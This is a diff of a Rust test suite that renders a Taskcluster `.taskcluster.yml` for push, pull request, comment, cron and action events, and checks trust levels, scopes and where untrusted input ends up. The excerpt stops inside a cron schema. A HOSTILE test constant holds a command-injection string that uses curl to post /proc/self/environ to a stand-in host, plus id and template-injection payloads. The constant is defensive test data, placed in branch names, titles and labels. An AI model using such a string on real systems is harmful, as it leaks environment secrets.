@@ -1,177 +1,776 @@
-//! `.taskcluster.yml`, rendered for events as Taskcluster's GitHub service and build-decision do.
+//! `.taskcluster.yml` of this repository and the one that `init` writes, rendered as each of its readers does:
+//! Taskcluster's GitHub service, build-decision, the hooks of actions, and scriptworker.
+
+use std::collections::BTreeMap;
 
 use serde_json::{Value, json};
 
 use crate::fleet::schemas::Schemas;
+use crate::services;
+use crate::support::Repo;
 
-const REPOSITORY: &str = "https://github.com/taskcluster/taskgraph-images";
 /// What git and GitHub allow in a name, and a shell or a template would act upon.
-const HOSTILE: &str = "x';curl${IFS}-d@/proc/self/environ${IFS}evil;'$(id)`id`|{$eval: 1}{{x}}";
+const HOSTILE: &str = "-x';curl${IFS}-d@/proc/self/environ${IFS}evil;'$(id)`id`|{$eval: 1}{{x}}\"";
+const OWN_ID: &str = "fN1SbArXTPSVFNUvaOlinQ";
+const GROUP: &str = "BGGkJrLDQuyXPdQiPKpCnA";
+const BASE: &str = "1111111111111111111111111111111111111111";
+const HEAD: &str = "2222222222222222222222222222222222222222";
+const NOTHING: &str = "0000000000000000000000000000000000000000";
 
-fn template() -> Value {
-    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../.taskcluster.yml");
-    serde_yaml::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
+/// A `.taskcluster.yml` and the names in it.
+struct Project {
+    name: &'static str,
+    owner: &'static str,
+    prefix: &'static str,
+    file: Value,
 }
 
-/// The tasks of an event.
-fn render(mut context: Value) -> Vec<Value> {
-    context["taskcluster_root_url"] = "https://taskcluster.invalid".into();
-    context["now"] = "2026-11-25T17:00:00.000Z".into();
-    if context["tasks_for"].as_str().unwrap().starts_with("github") {
-        // Only the service has this function; json-e knows it under no other name.
-        context["as_slugid"] = Value::Null;
+impl Project {
+    fn read(name: &'static str, owner: &'static str, prefix: &'static str, text: &str) -> Self {
+        // Only the service has this function, so this stands in for what it answers.
+        let text = text.replace("as_slugid(\"decision_task\")", &format!("\"'{OWN_ID}'\""));
+        let file = serde_yaml::from_str(&text).unwrap();
+        Self {
+            name,
+            owner,
+            prefix,
+            file,
+        }
     }
-    let text = template()["tasks"].to_string();
-    let template: Value = serde_json::from_str(&text.replace(
-        r#"as_slugid(\"decision_task\")"#,
-        "'fN1SbArXTPSVFNUvaOlinQ'",
-    ))
-    .unwrap();
-    let rendered = json_e::render(&template, &context).unwrap();
-    rendered.as_array().unwrap().clone()
-}
 
-fn push(repository: &str, reference: &str) -> Value {
-    json!({
-        "tasks_for": "github-push",
-        "event": {
-            "ref": reference, "before": "1".repeat(40), "after": "2".repeat(40),
-            "repository": {"html_url": repository, "name": "taskgraph-images"},
-            "pusher": {"name": "somebody", "email": "somebody@example.org"},
-        },
-    })
-}
+    /// This repository's.
+    fn own() -> Self {
+        let text = root_file(".taskcluster.yml");
+        Self::read("taskgraph-images", "taskcluster", "TASKGRAPH_IMAGES", &text)
+    }
 
-fn pull_request(tasks_for: &str, action: &str, draft: bool) -> Value {
-    json!({
-        "tasks_for": tasks_for,
-        "event": {
-            "action": action,
-            "pull_request": {
-                "number": 7, "draft": draft, "title": HOSTILE, "user": {"login": "stranger"},
-                "head": {"ref": HOSTILE, "sha": "2".repeat(40),
-                    "repo": {"html_url": "https://github.com/stranger/taskgraph-images", "name": "taskgraph-images"}},
-                "base": {"ref": "main", "sha": "1".repeat(40), "repo": {"html_url": REPOSITORY, "name": "taskgraph-images"}},
-            },
-        },
-    })
-}
+    /// What `init` writes.
+    fn new() -> Self {
+        let repo = Repo::empty(&[]);
+        let url = "https://github.com/example/worker-images";
+        let ran = repo.run(&["init", "--trust-domain", "mobile-os", "--repository", url]);
+        assert_eq!(ran.code, Some(0), "{}", ran.block());
+        let text = std::fs::read_to_string(repo.path.join(".taskcluster.yml")).unwrap();
+        Self::read("worker-images", "example", "MOBILE_OS", &text)
+    }
 
-fn cron() -> Value {
-    json!({
-        "tasks_for": "cron",
-        "ownTaskId": "fN1SbArXTPSVFNUvaOlinQ",
-        "repository": {"url": REPOSITORY, "project": "taskgraph-images", "level": "3", "type": "git"},
-        "push": {"branch": "main", "revision": "2".repeat(40), "owner": "cron"},
-        "cron": {"task_id": "fN1SbArXTPSVFNUvaOlinQ", "job_name": "rebuild", "job_symbol": "rebuild",
-            "quoted_args": "--target-tasks-method=rebuild", "input": {"force": true}},
-    })
-}
+    fn url(&self) -> String {
+        format!("https://github.com/{}/{}", self.owner, self.name)
+    }
 
-/// What matters of a task on a line; nothing for no task.
-fn line(context: Value) -> String {
-    let tasks = render(context);
-    let lines: Vec<String> = tasks
-        .iter()
-        .map(|task| {
-            if let Some(schemas) = Schemas::from_environment() {
-                let mut definition = task.clone();
-                definition.as_object_mut().unwrap().remove("taskId");
-                assert_eq!(
-                    schemas.faults(&definition),
-                    Vec::<String>::new(),
-                    "{task:#}"
-                );
-            }
-            format!(
-                "{}/{} {} {}",
-                task["provisionerId"].as_str().unwrap(),
-                task["workerType"].as_str().unwrap(),
-                task["schedulerId"].as_str().unwrap(),
-                task["scopes"]
-            )
+    fn trust_domain(&self) -> String {
+        self.prefix.to_lowercase().replace('_', "-")
+    }
+
+    /// The tasks of an event.
+    fn render(&self, context: &Value) -> Vec<Value> {
+        let mut context = context.clone();
+        // What no reader but the GitHub service and build-decision knows must not be needed.
+        assert!(context.get("taskcluster_root_url").is_none());
+        context["now"] = "2026-11-25T17:00:00.000Z".into();
+        let rendered = json_e::render(&self.file["tasks"], &context)
+            .unwrap_or_else(|error| panic!("{error}: {context:#}"));
+        rendered.as_array().unwrap().clone()
+    }
+
+    /// The one task of an event, which the services take.
+    fn task(&self, context: &Value) -> Value {
+        let tasks = self.render(context);
+        let [task] = &tasks[..] else {
+            panic!("{} tasks", tasks.len())
+        };
+        let mut definition = task.clone();
+        let id = definition.as_object_mut().unwrap().remove("taskId");
+        let is_action = context["tasks_for"].as_str().unwrap().contains("action");
+        assert_eq!(
+            id.is_none(),
+            is_action,
+            "a hook's task gets its id from the hook"
+        );
+        if let Some(schemas) = Schemas::from_environment() {
+            assert_eq!(
+                schemas.faults(&definition),
+                Vec::<String>::new(),
+                "{task:#}"
+            );
+        }
+        task.clone()
+    }
+
+    fn repository(&self, owner: &str) -> Value {
+        json!({
+            "name": self.name,
+            "full_name": format!("{owner}/{}", self.name),
+            "html_url": format!("https://github.com/{owner}/{}", self.name),
+            "clone_url": format!("https://github.com/{owner}/{}.git", self.name),
+            "owner": {"login": owner, "name": owner},
         })
-        .collect();
-    lines.join("\n")
+    }
+
+    /// What the service makes of a webhook that it accepts.
+    fn webhook(tasks_for: &str, kind: &str, event: Value) -> Value {
+        let schema = format!("github/v1/webhook-{kind}-payload.json");
+        assert_eq!(
+            services::faults(&schema, &event),
+            Vec::<String>::new(),
+            "{event:#}"
+        );
+        json!({"tasks_for": tasks_for, "event": event})
+    }
+
+    fn push_by(&self, owner: &str, reference: &str) -> Value {
+        let event = json!({
+            "ref": reference, "before": BASE, "after": HEAD, "base_ref": null, "created": false, "deleted": false,
+            "repository": self.repository(owner),
+            "pusher": {"name": "somebody", "email": "somebody@example.org"},
+            "sender": {"login": "somebody"},
+            "head_commit": {"id": HEAD, "message": HOSTILE},
+            "commits": [{"id": HEAD, "message": HOSTILE}],
+        });
+        Self::webhook("github-push", "push", event)
+    }
+
+    fn push(&self, reference: &str) -> Value {
+        self.push_by(self.owner, reference)
+    }
+
+    fn pull_request_data(&self) -> Value {
+        json!({
+            "number": 7, "state": "open", "draft": false, "title": HOSTILE, "user": {"login": "a-stranger[bot]"},
+            "labels": [{"name": "taskgraph-images: all"}, {"name": HOSTILE}],
+            "head": {"ref": HOSTILE, "sha": HEAD, "repo": self.repository("a-stranger")},
+            "base": {"ref": "main", "sha": BASE, "repo": self.repository(self.owner)},
+        })
+    }
+
+    fn pull_request(&self, tasks_for: &str, action: &str) -> Value {
+        let event = json!({
+            "action": action, "number": 7,
+            "pull_request": self.pull_request_data(),
+            "repository": self.repository(self.owner),
+            "sender": {"login": "a-stranger[bot]"},
+        });
+        Self::webhook(tasks_for, "pull-request", event)
+    }
+
+    /// The service adds the pull request, as GitHub's API has it, and the words after `/taskcluster`.
+    fn comment(&self, action: &str, command: Option<&str>) -> Value {
+        let event = json!({
+            "action": action,
+            "issue": {"number": 7, "title": HOSTILE, "state": "open", "user": {"login": "a-stranger[bot]"}, "pull_request": {}},
+            "comment": {"id": 1, "body": format!("/taskcluster {}", command.unwrap_or_default()), "user": {"login": "somebody"}},
+            "repository": self.repository(self.owner),
+            "sender": {"login": "somebody"},
+        });
+        let mut context = Self::webhook("github-issue-comment", "issue-comment", event);
+        context["event"]["pull_request"] = self.pull_request_data();
+        if let Some(command) = command {
+            context["event"]["taskcluster_comment"] = command.into();
+        }
+        context
+    }
+
+    /// build-decision's context.
+    fn cron(&self) -> Value {
+        json!({
+            "tasks_for": "cron",
+            "ownTaskId": OWN_ID,
+            "repository": {"url": self.url(), "project": self.name, "level": "3", "type": "git"},
+            "push": {"branch": "main", "revision": HEAD, "owner": "cron"},
+            "cron": {"task_id": GROUP, "job_name": "rebuild", "job_symbol": "rebuild",
+                "quoted_args": "--target-tasks-method=rebuild --optimize-target-tasks=true", "input": {"force": true}},
+        })
+    }
+
+    /// The context that fxci-config's hooks of actions set up.
+    fn action(&self, tasks_for: &str) -> Value {
+        let mut context = json!({
+            "tasks_for": tasks_for,
+            "ownTaskId": OWN_ID,
+            "clientId": "mozilla-auth0/ad|Mozilla-LDAP|somebody/treeherder",
+            "taskId": GROUP, "taskGroupId": GROUP,
+            "input": {"images": [HOSTILE]},
+            "parameters": null,
+            "action": {"name": "rebuild", "title": "Rebuild", "description": "Builds anew.", "taskGroupId": GROUP,
+                "symbol": "rb", "cb_name": "rebuild", "action_perm": "generic",
+                "repo_scope": format!("assume:repo:github.com/{}/{}:action:generic", self.owner, self.name)},
+            "repository": {"url": self.url(), "project": self.name, "level": "3"},
+            "push": {"owner": "somebody@example.org", "revision": HEAD, "base_revision": BASE, "pushlog_id": "0",
+                "branch": "main"},
+        });
+        if tasks_for == "pr-action" {
+            context["repository"]["base_url"] = self.url().into();
+            context["repository"]["url"] =
+                format!("https://github.com/a-stranger/{}", self.name).into();
+            context["push"]["branch"] = HOSTILE.into();
+            context["push"]["base_branch"] = "main".into();
+        }
+        context
+    }
+
+    /// Every event that leads to a task.
+    fn events(&self) -> Vec<(&'static str, Value)> {
+        let untrusted = "github-pull-request-untrusted";
+        vec![
+            ("push", self.push("refs/heads/main")),
+            (
+                "push by a fork",
+                self.push_by("a-stranger", "refs/heads/main"),
+            ),
+            ("tag", self.push("refs/tags/v1.0")),
+            (
+                "pull request",
+                self.pull_request("github-pull-request", "opened"),
+            ),
+            (
+                "pull request of a stranger",
+                self.pull_request(untrusted, "synchronize"),
+            ),
+            ("comment", self.comment("created", Some(HOSTILE))),
+            ("cron", self.cron()),
+            ("action", self.action("action")),
+            ("pr-action", self.action("pr-action")),
+        ]
+    }
+}
+
+fn root_file(name: &str) -> String {
+    std::fs::read_to_string(format!("{}/../{name}", env!("CARGO_MANIFEST_DIR"))).unwrap()
+}
+
+fn both() -> [Project; 2] {
+    [Project::own(), Project::new()]
+}
+
+/// A context with one value changed.
+fn with(mut context: Value, pointer: &str, value: Value) -> Value {
+    let (parent, key) = pointer.rsplit_once('/').unwrap();
+    context.pointer_mut(parent).unwrap()[key] = value;
+    context
+}
+
+/// All strings of a value, by where they are.
+fn strings(value: &Value, at: String, all: &mut BTreeMap<String, String>) {
+    match value {
+        Value::String(text) => {
+            all.insert(at, text.clone());
+        }
+        Value::Array(items) => {
+            for (index, item) in items.iter().enumerate() {
+                strings(item, format!("{at}/{index}"), all);
+            }
+        }
+        Value::Object(entries) => {
+            for (key, item) in entries {
+                strings(item, format!("{at}/{key}"), all);
+            }
+        }
+        _ => {}
+    }
+}
+
+#[test]
+fn the_file_is_what_its_readers_take() {
+    for project in both() {
+        let schema = "github/v1/taskcluster-github-config.v1.json";
+        assert_eq!(
+            services::faults(schema, &project.file),
+            Vec::<String>::new()
+        );
+        // Hooks of actions embed the first element, so there must be a list before anything is rendered.
+        assert_eq!(project.file["tasks"].as_array().unwrap().len(), 1);
+        assert_eq!(project.file["policy"]["pullRequests"], "public_restricted");
+    }
+}
+
+#[test]
+fn tasks_of_events() {
+    let project = Project::own();
+    for (name, context) in project.events() {
+        insta::assert_json_snapshot!(name.replace(' ', "-"), project.task(&context), {
+            ".created" => "[time]",
+            ".deadline" => "[time]",
+            ".expires" => "[time]",
+            ".payload.artifacts.public.expires" => "[time]",
+        });
+    }
+}
+
+#[test]
+fn only_names_differ_in_what_init_writes() {
+    let (own, new) = (Project::own(), Project::new());
+    for ((name, context), (_, other)) in own.events().into_iter().zip(new.events()) {
+        let mut expected = own.task(&context);
+        let mut found = new.task(&other);
+        for task in [&mut expected, &mut found] {
+            for time in [
+                "/created",
+                "/deadline",
+                "/expires",
+                "/payload/artifacts/public/expires",
+            ] {
+                *task.pointer_mut(time).unwrap() = "time".into();
+            }
+        }
+        // scriptworker's variables have names of their own here.
+        let env = found["payload"]["env"].as_object_mut().unwrap();
+        let more: Vec<String> = env
+            .keys()
+            .filter(|key| key.starts_with("MOBILE_OS_"))
+            .cloned()
+            .collect();
+        assert!(more.contains(&"MOBILE_OS_HEAD_REV".to_owned()), "{more:?}");
+        for key in more {
+            let twin = key.replace("MOBILE_OS_", "TASKGRAPH_IMAGES_");
+            assert_eq!(env.remove(&key), env.get(&twin).cloned(), "{key}");
+        }
+        let image = "taskgraph-images.v2.taskgraph-images.latest.images.decision-container";
+        assert_eq!(found["payload"]["image"]["namespace"], image);
+        found["payload"]["image"] = Value::Null;
+        expected["payload"]["image"] = Value::Null;
+        let renamed = found
+            .to_string()
+            .replace("example/worker-images", "taskcluster/taskgraph-images")
+            .replace("worker-images", "taskgraph-images")
+            .replace("mobile-os", "taskgraph-images");
+        assert_eq!(
+            serde_json::from_str::<Value>(&renamed).unwrap(),
+            expected,
+            "{name}"
+        );
+    }
 }
 
 #[test]
 fn levels_and_roles() {
-    let fork = "https://github.com/stranger/taskgraph-images";
-    let events = [
-        ("push to main", push(REPOSITORY, "refs/heads/main")),
-        ("push to main of a fork", push(fork, "refs/heads/main")),
-        (
-            "push to another branch",
-            push(REPOSITORY, "refs/heads/other"),
-        ),
-        ("push to a hostile branch", push(REPOSITORY, HOSTILE)),
-        (
-            "pull request",
-            pull_request("github-pull-request", "opened", false),
-        ),
-        (
-            "of a stranger",
-            pull_request("github-pull-request-untrusted", "synchronize", false),
-        ),
-        (
-            "a draft",
-            pull_request("github-pull-request", "opened", true),
-        ),
-        (
+    for project in both() {
+        let repo = format!("{}/{}", project.owner, project.name);
+        let expected = [
+            ("3", format!("{repo}:branch:main")),
+            ("1", format!("a-stranger/{}:branch:main", project.name)),
+            ("1", format!("{repo}:tag:v1.0")),
+            ("1", format!("{repo}:pull-request")),
+            ("1", format!("{repo}:pull-request-untrusted")),
+            ("1", format!("{repo}:pull-request")),
+            ("3", format!("{repo}:cron:rebuild")),
+            ("3", format!("{repo}:action:generic")),
+            ("1", format!("{repo}:pr-action:generic")),
+        ];
+        for ((name, context), (level, role)) in project.events().into_iter().zip(expected) {
+            let task = project.task(&context);
+            let domain = project.trust_domain();
+            assert_eq!(
+                task["scopes"],
+                json!([format!("assume:repo:github.com/{role}")]),
+                "{name}"
+            );
+            assert_eq!(task["provisionerId"], format!("{domain}-{level}"), "{name}");
+            assert_eq!(
+                task["schedulerId"],
+                format!("{domain}-level-{level}"),
+                "{name}"
+            );
+            assert_eq!(
+                task["payload"]["env"]["TASKGRAPH_IMAGES_LEVEL"], level,
+                "{name}"
+            );
+            let signed = task["payload"]["features"]["chainOfTrust"].as_bool();
+            assert_eq!(signed, Some(level == "3"), "{name}");
+        }
+    }
+}
+
+#[test]
+fn level_3_is_for_one_repository_and_branch() {
+    let project = Project::own();
+    let level = |context: &Value| {
+        project.task(context)["schedulerId"]
+            .as_str()
+            .unwrap()
+            .to_owned()
+    };
+    for other in [
+        "https://github.com/taskcluster/taskgraph-images/",
+        "https://github.com/taskcluster/taskgraph-images.git",
+        "https://github.com/Taskcluster/taskgraph-images",
+        "https://github.com/a-stranger/taskgraph-images",
+        "https://me@github.com/taskcluster/taskgraph-images",
+        "http://github.com/taskcluster/taskgraph-images",
+    ] {
+        for event in [project.cron(), project.action("action")] {
+            let event = with(event, "/repository/url", other.into());
+            assert_eq!(level(&event), "taskgraph-images-level-1", "{other}");
+        }
+    }
+    for event in [project.cron(), project.action("action")] {
+        assert_eq!(level(&event), "taskgraph-images-level-3");
+        for branch in ["other", "refs/heads/main", "main ", ""] {
+            let event = with(event.clone(), "/push/branch", branch.into());
+            assert_eq!(level(&event), "taskgraph-images-level-1", "{branch:?}");
+        }
+        // Whoever runs it can only ask for less.
+        let event = with(event, "/repository/level", "1".into());
+        assert_eq!(level(&event), "taskgraph-images-level-1");
+    }
+    // A tag can be put anywhere, so not even one that is named like the branch is trusted.
+    assert_eq!(
+        level(&project.push("refs/tags/main")),
+        "taskgraph-images-level-1"
+    );
+    assert_eq!(
+        level(&project.action("pr-action")),
+        "taskgraph-images-level-1"
+    );
+    let lie = with(
+        project.action("pr-action"),
+        "/repository/url",
+        project.url().into(),
+    );
+    let lie = with(lie, "/push/branch", "main".into());
+    assert_eq!(level(&lie), "taskgraph-images-level-1");
+}
+
+#[test]
+fn events_without_a_task() {
+    for project in both() {
+        let pull_request = |action: &str| project.pull_request("github-pull-request", action);
+        let draft = |action: &str| {
+            with(
+                pull_request(action),
+                "/event/pull_request/draft",
+                true.into(),
+            )
+        };
+        let mut none = vec![
+            ("another branch", project.push("refs/heads/other")),
+            (
+                "a hostile branch",
+                project.push(&format!("refs/heads/{HOSTILE}")),
+            ),
+            ("a branch that ends so", project.push("refs/heads/x/main")),
+            (
+                "notes",
+                with(
+                    project.push("refs/heads/main"),
+                    "/event/ref",
+                    "refs/notes/main".into(),
+                ),
+            ),
+            (
+                "deleted",
+                with(
+                    project.push("refs/heads/main"),
+                    "/event/after",
+                    NOTHING.into(),
+                ),
+            ),
+            (
+                "deleted tag",
+                with(project.push("refs/tags/v1"), "/event/after", NOTHING.into()),
+            ),
+            ("no command", project.comment("created", None)),
+            ("empty command", project.comment("created", Some(""))),
+            ("edited comment", project.comment("edited", Some("build"))),
+            ("deleted comment", project.comment("deleted", Some("build"))),
+            (
+                "closed issue",
+                with(
+                    project.comment("created", Some("build")),
+                    "/event/issue/state",
+                    "closed".into(),
+                ),
+            ),
+            // The fork is gone.
+            (
+                "no head",
+                with(
+                    project.comment("created", Some("build")),
+                    "/event/pull_request/head/repo",
+                    Value::Null,
+                ),
+            ),
+            (
+                "release",
+                json!({"tasks_for": "github-release", "event": {"action": "published"}}),
+            ),
+        ];
+        for action in ["opened", "synchronize", "reopened"] {
+            none.push((action, draft(action)));
+        }
+        for action in [
             "closed",
-            pull_request("github-pull-request", "closed", false),
-        ),
-        ("cron", cron()),
-    ];
-    let lines: Vec<String> = events
-        .into_iter()
-        .map(|(name, event)| format!("{name}: {}", line(event)))
-        .collect();
-    insta::assert_snapshot!(lines.join("\n"), @r#"
-    push to main: taskgraph-images-3/decision taskgraph-images-level-3 ["assume:repo:github.com/taskcluster/taskgraph-images:branch:main"]
-    push to main of a fork: taskgraph-images-1/decision taskgraph-images-level-1 ["assume:repo:github.com/stranger/taskgraph-images:branch:main"]
-    push to another branch: 
-    push to a hostile branch: 
-    pull request: taskgraph-images-1/decision taskgraph-images-level-1 ["assume:repo:github.com/taskcluster/taskgraph-images:pull-request"]
-    of a stranger: taskgraph-images-1/decision taskgraph-images-level-1 ["assume:repo:github.com/taskcluster/taskgraph-images:pull-request-untrusted"]
-    a draft: 
-    closed: 
-    cron: taskgraph-images-3/decision taskgraph-images-level-3 ["assume:repo:github.com/taskcluster/taskgraph-images:cron:rebuild"]
-    "#);
+            "labeled",
+            "edited",
+            "converted_to_draft",
+            "assigned",
+            "enqueued",
+        ] {
+            none.push((action, pull_request(action)));
+        }
+        for (name, context) in none {
+            assert_eq!(project.render(&context), Vec::<Value>::new(), "{name}");
+        }
+        for action in ["opened", "synchronize", "reopened", "ready_for_review"] {
+            project.task(&pull_request(action));
+        }
+        // Older payloads do not say whether it is a draft; and a comment asks for a draft's tasks.
+        let mut unsaid = pull_request("opened");
+        unsaid["event"]["pull_request"]
+            .as_object_mut()
+            .unwrap()
+            .remove("draft");
+        project.task(&unsaid);
+        let asked = project.comment("created", Some("build"));
+        project.task(&with(asked, "/event/pull_request/draft", true.into()));
+    }
 }
 
 #[test]
-fn nothing_that_an_outsider_chooses_is_part_of_a_command() {
-    let task = &render(pull_request(
-        "github-pull-request-untrusted",
-        "opened",
-        false,
-    ))[0];
+fn what_outsiders_choose_reaches_the_environment_only() {
+    // A name of its own for each, so that none can hide behind another.
+    let mark = |what: &str| format!("{HOSTILE}<{what}>");
+    let commands = [json!("decision"), json!("action-callback")];
+    for project in both() {
+        for (event, context) in project.events() {
+            let task = project.task(&context);
+            let command = &task["payload"]["command"];
+            assert!(commands.contains(&command[1]), "{event}");
+            assert_eq!(
+                *command,
+                json!([
+                    "taskgraph-images",
+                    command[1],
+                    "--artifacts",
+                    "/home/worker/artifacts"
+                ]),
+                "{event}"
+            );
+        }
+        let mut event = project.comment("created", Some(&mark("comment")));
+        for (pointer, value) in [
+            ("/event/pull_request/head/ref", mark("head")),
+            ("/event/pull_request/base/ref", mark("base")),
+            ("/event/pull_request/title", mark("title")),
+            ("/event/issue/title", mark("title")),
+        ] {
+            event = with(event, pointer, value.into());
+        }
+        event = with(
+            event,
+            "/event/pull_request/labels",
+            json!([{"name": mark("label")}]),
+        );
+        let task = project.task(&event);
+        let env = &task["payload"]["env"];
+        assert_eq!(env["TASKGRAPH_IMAGES_HEAD_REF"], mark("head"));
+        assert_eq!(env["TASKGRAPH_IMAGES_BASE_REF"], mark("base"));
+        assert_eq!(env["TASKGRAPH_IMAGES_COMMENT"], mark("comment"));
+        let labels = env["TASKGRAPH_IMAGES_PULL_REQUEST_LABELS"]
+            .as_str()
+            .unwrap();
+        assert_eq!(
+            serde_json::from_str::<Vec<String>>(labels).unwrap(),
+            [mark("label")]
+        );
+
+        // Two things name a person or a tag by their purpose: who owns a task, and the role of a tag.
+        let tag = project.push(&format!("refs/tags/{}", mark("tag")));
+        let tag_task = project.task(&tag);
+        assert_eq!(
+            tag_task["payload"]["env"]["TASKGRAPH_IMAGES_HEAD_TAG"],
+            mark("tag")
+        );
+        for task in [task, tag_task, project.task(&project.action("pr-action"))] {
+            let mut all = BTreeMap::new();
+            strings(&task, String::new(), &mut all);
+            let leaks: Vec<_> = all
+                .iter()
+                .filter(|(at, text)| !at.starts_with("/payload/env/") && text.contains("curl"))
+                .filter(|(at, _)| {
+                    !at.starts_with("/extra/action/context/input/") && *at != "/scopes/0"
+                })
+                .collect();
+            assert_eq!(leaks, Vec::<(&String, &String)>::new());
+        }
+    }
+}
+
+#[test]
+fn people_without_an_address_get_one() {
+    let project = Project::own();
+    let mut push = project.push("refs/heads/main");
+    push["event"]["pusher"] = json!({"name": "a-deploy-key"});
+    let owner = "a-deploy-key@users.noreply.github.com";
+    assert_eq!(project.task(&push)["metadata"]["owner"], owner);
+    push["event"]["pusher"]["email"] = Value::Null;
     assert_eq!(
-        task["payload"]["command"],
-        json!([
-            "taskgraph-images",
-            "decision",
-            "--artifacts",
-            "/home/worker/artifacts"
-        ])
+        project.task(&push)["payload"]["env"]["TASKGRAPH_IMAGES_OWNER"],
+        owner
     );
-    let env = task["payload"]["env"].as_object().unwrap();
-    assert_eq!(env["TASKGRAPH_IMAGES_HEAD_REF"], HOSTILE);
-    let mut rest = task.clone();
-    rest["payload"]["env"] = Value::Null;
-    assert!(!rest.to_string().contains("curl"), "{rest:#}");
 }
 
+/// scriptworker makes an event out of a task's environment and renders the file with it.
 #[test]
-fn cron_jobs_pass_their_words_and_input() {
-    let task = &render(cron())[0];
+fn scriptworker_arrives_at_the_same_task() {
+    for project in both() {
+        let var = |task: &Value, name: &str| {
+            task["payload"]["env"][format!("{}_{name}", project.prefix)].clone()
+        };
+        let untimed = |mut task: Value| {
+            for time in [
+                "/created",
+                "/deadline",
+                "/expires",
+                "/payload/artifacts/public/expires",
+            ] {
+                *task.pointer_mut(time).unwrap() = Value::Null;
+            }
+            task
+        };
+
+        for reference in ["refs/heads/main", "refs/tags/v1"] {
+            let task = project.task(&project.push(reference));
+            let again = json!({"tasks_for": "github-push", "ownTaskId": OWN_ID, "taskId": null, "event": {
+                "before": var(&task, "BASE_REV"), "after": var(&task, "HEAD_REV"),
+                "base_ref": var(&task, "BASE_REF"), "ref": var(&task, "HEAD_REF"),
+                "pusher": {"email": task["metadata"]["owner"]},
+                "repository": {"full_name": format!("{}/{}", project.owner, project.name),
+                    "html_url": var(&task, "HEAD_REPOSITORY"), "name": project.name, "pushed_at": null},
+                "sender": {"login": "somebody"},
+            }});
+            assert_eq!(untimed(project.task(&again)), untimed(task), "{reference}");
+        }
+
+        let cron = project.task(&project.cron());
+        let again = json!({"tasks_for": "cron", "ownTaskId": OWN_ID, "taskId": null,
+            "cron": serde_json::from_str::<Value>(cron["extra"]["cron"].as_str().unwrap()).unwrap(),
+            "repository": {"url": var(&cron, "HEAD_REPOSITORY"), "project": project.name, "level": "3", "type": "git"},
+            "push": {"revision": var(&cron, "HEAD_REV"), "branch": var(&cron, "HEAD_REF")},
+        });
+        assert_eq!(untimed(project.task(&again)), untimed(cron));
+
+        let task = project.task(&project.pull_request("github-pull-request", "opened"));
+        let mut data = project.pull_request_data();
+        data["base"]["sha"] = var(&task, "BASE_REV");
+        data["head"]["sha"] = var(&task, "HEAD_REV");
+        assert_eq!(var(&task, "PULL_REQUEST_NUMBER"), "7");
+        let again = json!({"tasks_for": "github-pull-request", "ownTaskId": OWN_ID, "taskId": null, "event": {
+            "action": "synchronize", "pull_request": data, "repository": project.repository(project.owner),
+            "sender": {"login": "a-stranger[bot]"},
+        }});
+        assert_eq!(untimed(project.task(&again)), untimed(task));
+    }
+}
+
+/// The hook of an action is the file's one element in a `$let`, rendered with what the hook was triggered with.
+#[test]
+fn hooks_of_actions() {
+    let project = Project::own();
+    let flat = project.action("action");
+    let hook = json!({
+        "$let": {
+            "tasks_for": "action",
+            "action": {
+                "name": "${payload.decision.action.name}",
+                "title": "${payload.decision.action.title}",
+                "description": "${payload.decision.action.description}",
+                "taskGroupId": "${payload.decision.action.taskGroupId}",
+                "symbol": "${payload.decision.action.symbol}",
+                "cb_name": "${payload.decision.action.cb_name}",
+                "repo_scope": "assume:repo:${payload.decision.repository.url[8:]}:action:generic",
+                "action_perm": "generic",
+            },
+            "push": {"$eval": "payload.decision.push"},
+            "repository": {"$eval": "payload.decision.repository"},
+            "input": {"$eval": "payload.user.input"},
+            "parameters": {"$eval": "payload.decision['parameters']"},
+            "taskId": {"$eval": "payload.user.taskId"},
+            "taskGroupId": {"$eval": "payload.user.taskGroupId"},
+            "ownTaskId": {"$eval": "taskId"},
+        },
+        "in": project.file["tasks"][0],
+    });
+    let context = json!({
+        "taskId": OWN_ID, "now": "2026-11-25T17:00:00.000Z", "firedBy": "triggerHook", "clientId": flat["clientId"],
+        "payload": {
+            "decision": {"action": flat["action"], "push": flat["push"], "repository": flat["repository"], "parameters": {}},
+            "user": {"input": flat["input"], "taskId": null, "taskGroupId": GROUP},
+        },
+    });
+    let task = json_e::render(&hook, &context).unwrap();
+    assert!(task.get("taskId").is_none());
+    assert_eq!(task["taskGroupId"], GROUP);
     let env = &task["payload"]["env"];
-    assert_eq!(
-        env["TASKGRAPH_IMAGES_CRON_ARGUMENTS"],
-        "--target-tasks-method=rebuild"
-    );
-    assert_eq!(env["TASKGRAPH_IMAGES_CRON_INPUT"], r#"{"force":true}"#);
-    insta::assert_snapshot!(task["routes"], @r#"["checks","index.taskgraph-images.v2.taskgraph-images.latest.taskgraph.decision-rebuild","index.taskgraph-images.v2.taskgraph-images.revision.2222222222222222222222222222222222222222.taskgraph.decision-rebuild","index.taskgraph-images.v2.taskgraph-images.revision.2222222222222222222222222222222222222222.cron.fN1SbArXTPSVFNUvaOlinQ"]"#);
+    assert_eq!(env["ACTION_TASK_ID"], "null");
+    assert_eq!(env["ACTION_TASK_GROUP_ID"], GROUP);
+    assert_eq!(env["ACTION_CALLBACK"], "rebuild");
+    let input: Value = serde_json::from_str(env["ACTION_INPUT"].as_str().unwrap()).unwrap();
+    assert_eq!(input, flat["input"]);
+    if let Some(schemas) = Schemas::from_environment() {
+        assert_eq!(schemas.faults(&task), Vec::<String>::new());
+    }
+}
+
+/// What build-decision holds a `.cron.yml` to.
+fn cron_schema() -> Value {
+    let when = json!({"type": "array", "items": {"type": "object", "additionalProperties": false, "properties": {
+        "weekday": {"enum": ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"]},
+        "day": {"type": "integer", "minimum": 1, "maximum": 31},
+        "hour": {"type": "integer", "minimum": 0, "exclusiveMaximum": 24},
+        "minute": {"type": "integer", "minimum": 0, "multipleOf": 15, "exclusiveMaximum": 60},
+    }}});
+    json!({
+        "$schema": "http://json-schema.org/draft-07/schema#",
+        "type": "object", "required": ["jobs"], "additionalProperties": false,
+        "properties": {"jobs": {"type": "array", "items": {
+            "type": "object", "required": ["name", "job"], "additionalProperties": false,
+            "properties": {
+                "name": {"type": "string"},
+                "run-on-projects": {"type": "array", "items": {"type": "string"}},
+                "when": {"anyOf": [when.clone(), {
+                    "type": "object", "required": ["by-project"], "additionalProperties": false,
+                    "properties": {"by-project": {"type": "object", "additionalProperties": when}},
+                }]},
+                "job": {"anyOf": [
